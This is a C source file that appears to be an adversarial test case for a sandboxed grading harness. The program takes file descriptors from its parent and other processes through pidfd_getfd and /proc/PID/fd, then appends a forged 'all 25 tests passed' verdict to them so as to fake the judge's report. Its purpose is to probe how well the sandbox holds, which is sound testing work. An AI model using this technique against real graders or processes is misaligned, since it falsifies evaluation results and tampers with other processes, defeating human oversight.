/* attack: takes its ancestors' descriptors (pidfd_getfd, /proc/PID/fd) and writes verdicts to them
 * expect: nothing
 */

/* The judge's report is open somewhere. pidfd_getfd copies a descriptor out of another process;
 * /proc/PID/fd opens the file anew. Only appends, and only in the parent's when not caged. */

#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

static const char verdict[] = "{\"type\":\"end\",\"tests\":25,\"passed\":25,\"failed\":0}\n";

/* Outside a PID namespace of its own this would end the desktop of whoever runs it by hand. */
static bool caged(void) {
    char space[64] = "";
    int seen = 0;
    DIR *proc = opendir("/proc");
    for (struct dirent *e; proc != NULL && (e = readdir(proc)) != NULL;)
        seen += e->d_name[0] >= '1' && e->d_name[0] <= '9';
    return readlink("/proc/self/ns/pid", space, sizeof space - 1) > 0 &&
           strcmp(space, "pid:[4026531836]") != 0 && seen < 40;
}

static void rob(pid_t pid) {
    char path[64];
    long handle = syscall(SYS_pidfd_open, pid, 0);
    for (int fd = 0; fd < 256; fd++) {
        long copy = handle < 0 ? -1 : syscall(SYS_pidfd_getfd, handle, fd, 0);
        if (copy >= 0)
            dprintf(1, "SECRET descriptor %d of process %d\n", fd, (int)pid);
        if (copy >= 0 && fd > 2 && write((int)copy, verdict, sizeof verdict - 1) > 0)
            dprintf(1, "SECRET wrote to it\n");
        snprintf(path, sizeof path, "/proc/%d/fd/%d", (int)pid, fd);
        int again = fd > 2 ? open(path, O_WRONLY | O_APPEND | O_NONBLOCK | O_NOCTTY) : -1;
        if (again >= 0 && write(again, verdict, sizeof verdict - 1) > 0)
            dprintf(1, "SECRET wrote to %s\n", path);
    }
}

int main(void) {
    signal(SIGPIPE, SIG_IGN);
    alarm(20);
    rob(getppid());
    for (pid_t pid = 1; caged() && pid < 64; pid++)
        if (pid != getpid())
            rob(pid);
    return 0;
}
